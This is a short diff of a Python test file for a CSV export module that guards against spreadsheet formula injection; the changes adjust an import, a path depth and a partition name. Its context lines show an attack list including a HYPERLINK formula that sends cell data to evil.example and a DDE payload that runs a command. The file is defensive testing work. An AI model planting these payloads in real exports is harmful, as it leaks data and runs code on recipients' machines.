@@ -19,9 +19,10 @@ from fastapi.testclient import TestClient
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from include.scoring.lake import catalog
 from include.scoring.publish.csv_export import FORMULA_START, guard, needs_guard, read_rows, to_csv_text, unguard
 
-ROOT = Path(__file__).resolve().parents[2]
+ROOT = Path(__file__).resolve().parents[3]
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
     "=cmd|' /C calc'!A0",
@@ -138,7 +139,7 @@ def _scores_partition(lake_root: Path, day: date) -> pd.DataFrame:
     import pyarrow as pa
 
     Lake(str(lake_root)).write_partition(
-        "scores", day, pa.Table.from_pandas(frame, schema=SCORE_SCHEMA, preserve_index=False)
+        catalog.SCORES, day, pa.Table.from_pandas(frame, schema=SCORE_SCHEMA, preserve_index=False)
     )
     return frame
 
